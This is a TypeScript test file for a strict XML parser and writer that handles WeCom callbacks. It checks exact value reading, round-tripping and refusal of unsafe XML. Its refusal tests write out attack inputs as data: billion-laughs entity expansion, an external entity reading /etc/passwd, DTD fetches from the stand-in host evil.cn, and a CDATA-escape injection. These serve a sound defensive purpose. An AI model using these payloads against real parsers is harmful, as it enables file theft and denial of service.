/** The XML of callbacks: values to the letter, and no XML that does more than hold values. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { childrenOf, readXml, textIn, writeXml, XmlError } from '../../../src/channels/wecom/xml.ts';
import { anyText, vectors } from './given-callback.ts';

function fieldsOf(text: string): Record<string, string> {
  return Object.fromEntries(readXml(text).children.map((child) => [child.name, child.text]));
}

describe('reading', () => {
  const messages = vectors.callback.filter(({ message }) => message.startsWith('<xml>'));

  test.each(messages)('the message of the vector $id has its fields, all of them as texts', ({ message }) => {
    const expected = [...message.matchAll(/<(?<name>\w+)>(?:<!\[CDATA\[)?(?<text>[^<\]]+)(?:\]\]>)?<\//gu)];

    expect(expected.length).toBeGreaterThan(4);
    expect(fieldsOf(message)).toEqual(Object.fromEntries(expected.map(({ groups }) => [groups?.name, groups?.text])));
  });

  test('an id has more digits than a number can hold, and keeps them', () => {
    expect(fieldsOf('<xml><MsgId>4561255354251345929</MsgId></xml>')).toEqual({ MsgId: '4561255354251345929' });
  });

  test.each(['0012', '1e5', '0x1F', 'true', 'null', ' 12 ', '-0', '+1', '', '１２'])(
    '“%s” stays what it is',
    (text) => {
      expect(fieldsOf(`<xml><A>${text}</A></xml>`)).toEqual({ A: text });
      expect(fieldsOf(`<xml><A><![CDATA[${text}]]></A></xml>`)).toEqual({ A: text });
    },
  );

  test.each([
    '<b>&amp;</b>',
    '<!DOCTYPE xml [<!ENTITY a "b">]>&a;',
    '<?xml version="1.0"?>',
    '<!-- -->',
    '<![CDATA[',
    ']]',
    '</A></xml>',
  ])('what people write is no XML: %s', (text) => {
    expect(fieldsOf(`<xml><A><![CDATA[${text}]]></A></xml>`)).toEqual({ A: text });
  });

  test('the five entities of XML are read once', () => {
    expect(fieldsOf('<xml><A>&lt;&gt;&quot;&apos;&amp;lt;</A></xml>')).toEqual({ A: '<>"\'&lt;' });
  });

  test('empty elements, a declaration, blanks and CDATA in several parts', () => {
    const text =
      '<?xml version="1.0" encoding="UTF-8"?>\n<xml>\r\n  <A/>\n<B />\t<C></C><D>1<![CDATA[]]]]><![CDATA[>2]]>3</D>\n</xml>\n';

    expect(fieldsOf(text)).toEqual({ A: '', B: '', C: '', D: '1]]>23' });
  });

  test('what was selected on a card', () => {
    const item = (key: string, ...ids: string[]) =>
      `<SelectedItem><QuestionKey><![CDATA[${key}]]></QuestionKey><OptionIds>${ids.map((id) => `<OptionId><![CDATA[${id}]]></OptionId>`).join('')}</OptionIds></SelectedItem>`;
    const xml = readXml(
      `<xml><EventKey><![CDATA[go]]></EventKey><SelectedItems>${item('unit', '1', '2')}${item('due', '3')}</SelectedItems></xml>`,
    );

    const selected = childrenOf(xml, 'SelectedItems', 'SelectedItem').map((one) => ({
      key: textIn(one, 'QuestionKey'),
      ids: childrenOf(one, 'OptionIds', 'OptionId').map(({ text }) => text),
    }));

    expect(selected).toEqual([
      { key: 'unit', ids: ['1', '2'] },
      { key: 'due', ids: ['3'] },
    ]);
  });

  test('a field that is missing, or there twice, has no text', () => {
    const xml = readXml('<xml><A>1</A><A>2</A><B>3</B></xml>');

    expect([textIn(xml, 'A'), textIn(xml, 'B'), textIn(xml, 'C'), textIn(xml, 'constructor')]).toEqual([
      undefined,
      '3',
      undefined,
      undefined,
    ]);
  });
});

describe('refusing', () => {
  const laughs = Array.from({ length: 9 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('');

  test.each([
    ['entities in entities', `<!DOCTYPE xml [<!ENTITY l0 "ha">${laughs}]><xml><A>&l9;</A></xml>`],
    [
      'one long entity, many times',
      `<!DOCTYPE xml [<!ENTITY a "${'a'.repeat(50_000)}">]><xml><A>${'&a;'.repeat(10_000)}</A></xml>`,
    ],
    ['an entity from a file', '<!DOCTYPE xml [<!ENTITY a SYSTEM "file:///etc/passwd">]><xml><A>&a;</A></xml>'],
    ['an entity of parameters', '<!DOCTYPE xml [<!ENTITY % a SYSTEM "http://evil.cn/a.dtd"> %a;]><xml><A>1</A></xml>'],
    ['a type from elsewhere', '<!DOCTYPE xml SYSTEM "http://evil.cn/a.dtd"><xml><A>1</A></xml>'],
    ['a type without anything', '<!DOCTYPE xml><xml><A>1</A></xml>'],
    ['a type in small letters', '<!doctype xml><xml><A>1</A></xml>'],
    ['a type between CDATA', '<xml><A><![CDATA[1]]></A><!DOCTYPE xml [<!ENTITY a "b">]><B><![CDATA[2]]></B></xml>'],
    [
      'a type that hides behind CDATA in an attribute',
      '<xml a="<![CDATA["><!DOCTYPE a [<!ENTITY a "b">]><A b="]]>">&a;</A></xml>',
    ],
    [
      'a type that hides behind CDATA in a comment',
      '<!-- <![CDATA[ --><!DOCTYPE a [<!ENTITY a "b">]><!-- ]]> --><xml>&a;</xml>',
    ],
    ['a type that hides behind CDATA in a tag', '<xml><A<![CDATA[><!DOCTYPE a []><]]>>1</A></xml>'],
    ['an entity that nobody declared', '<xml><A>&nbsp;</A></xml>'],
    ['a character by its number', '<xml><A>&#60;</A></xml>'],
    ['an & alone', '<xml><A>a & b</A></xml>'],
    ['a comment', '<xml><!-- a --><A>1</A></xml>'],
    ['an instruction', '<xml><?php a ?><A>1</A></xml>'],
    ['a declaration in the middle', '<xml><?xml version="1.0"?><A>1</A></xml>'],
    ['attributes', '<xml a="1"><A>1</A></xml>'],
    ['spaces of names', '<x:xml><A>1</A></x:xml>'],
    ['names that mean something to JavaScript', '<xml><constructor>1</constructor></xml>'],
    ['names that mean more', '<xml><__proto__><a>1</a></__proto__></xml>'],
    ['names without end', `<xml><${'A'.repeat(65)}>1</${'A'.repeat(65)}></xml>`],
    ['elements in elements', `${'<A>'.repeat(12)}${'</A>'.repeat(12)}`],
    ['elements without end', `<xml>${'<A></A>'.repeat(100_000)}</xml>`],
    ['CDATA without end', '<xml><A><![CDATA[1</A></xml>'],
    ['very much CDATA without end', `<xml><A>${'<![CDATA['.repeat(100_000)}`],
    ['tags that do not match', '<xml><A>1</B></xml>'],
    ['tags that are not closed', '<xml><A>1</A>'],
    ['tags that were not opened', '<xml><A>1</A></B></xml>'],
    ['tags in tags', '<xml><<A>B>1</B></xml>'],
    ['two roots', '<xml><A>1</A></xml><xml><A>2</A></xml>'],
    ['two roots without anything', '<xml/><xml/>'],
    ['an entity that CDATA ends', '<xml><A>&amp<![CDATA[1]]></A></xml>'],
    ['an entity around CDATA', '<xml><A>&<![CDATA[1]]>amp;</A></xml>'],
    ['text behind the root', '<xml><A>1</A></xml>a'],
    ['text before the root', 'a<xml><A>1</A></xml>'],
    ['text alone', 'hello'],
    ['nothing', ''],
    ['a declaration alone', '<?xml version="1.0"?>'],
    ['JSON', '{"encrypt":"a"}'],
  ])('%s', (_what, text) => {
    const start = performance.now();

    expect(() => readXml(text)).toThrow(XmlError);
    expect(performance.now() - start).toBeLessThan(1000);
  });

  test('the error does not quote what was written', () => {
    for (const text of ['<xml><Geheim>1</B></xml>', '<Geheim', '<xml>&Geheim;</xml>']) {
      expect(() => readXml(text)).toThrow(expect.not.objectContaining({ message: expect.stringContaining('Geheim') }));
    }
  });
});

describe('writing', () => {
  test('texts as CDATA, numbers bare, elements within, and several of a name', () => {
    const written = writeXml({ A: 'a<b', N: 12, Empty: '', In: { B: 'b' }, Some: [{ C: 'c' }, { C: 1 }], None: [] });

    expect(written).toBe(
      '<xml><A><![CDATA[a<b]]></A><N>12</N><Empty><![CDATA[]]></Empty><In><B><![CDATA[b]]></B></In>' +
        '<Some><C><![CDATA[c]]></C></Some><Some><C>1</C></Some></xml>',
    );
  });

  test('no text can end its CDATA', () => {
    const text = ']]></Content><MsgType>evil</MsgType><![CDATA[]]>]]]]>>';

    const xml = readXml(writeXml({ Content: text }));

    expect(xml.children).toEqual([{ name: 'Content', text, children: [] }]);
  });

  test('characters that no XML can hold are left out', () => {
    const text = 'a\u0000b\u0008c\u000bd\u001be\ud800f\udc00g\ufffeh\uffffi\tj\nk\r\nl\rm🙏\u{10ffff}';

    expect(fieldsOf(writeXml({ A: text }))).toEqual({ A: 'abcdefghi\tj\nk\nl\nm🙏\u{10ffff}' });
  });
});

test('whatever is written comes back', () => {
  fc.assert(
    fc.property(anyText, anyText, fc.nat(), (one, two, number) => {
      const read = fieldsOf(writeXml({ One: one, Number: number, Two: two }));

      expect(read).toEqual({ One: legal(one), Number: `${number}`, Two: legal(two) });
    }),
  );
});

/** The text as XML can hold it. */
function legal(text: string): string {
  const characters = [...text.replaceAll(/\r\n|\r/gu, '\n')];
  return characters.filter((character) => isLegal(character.codePointAt(0) ?? 0)).join('');
}

function isLegal(code: number): boolean {
  return (
    code === 9 ||
    code === 10 ||
    (code >= 0x20 && !(code >= 0xd800 && code <= 0xdfff) && code !== 0xfffe && code !== 0xffff)
  );
}

test('any text is read or refused', () => {
  const pieces = [
    '<xml>',
    '</xml>',
    '<A>',
    '</A>',
    '<A/>',
    '<![CDATA[',
    ']]>',
    '<!DOCTYPE a [',
    ']>',
    '&amp;',
    '&a;',
    '<?',
    '?>',
    '"',
    ' ',
    'a',
    '督',
    '\0',
  ];
  fc.assert(
    fc.property(
      fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.array(fc.constantFrom(...pieces)).map((all) => all.join('')),
      ),
      (text) => {
        try {
          expect(readXml(text).name).not.toBe('');
        } catch (error) {
          expect(error).toBeInstanceOf(XmlError);
        }
      },
    ),
    { numRuns: 500 },
  );
});
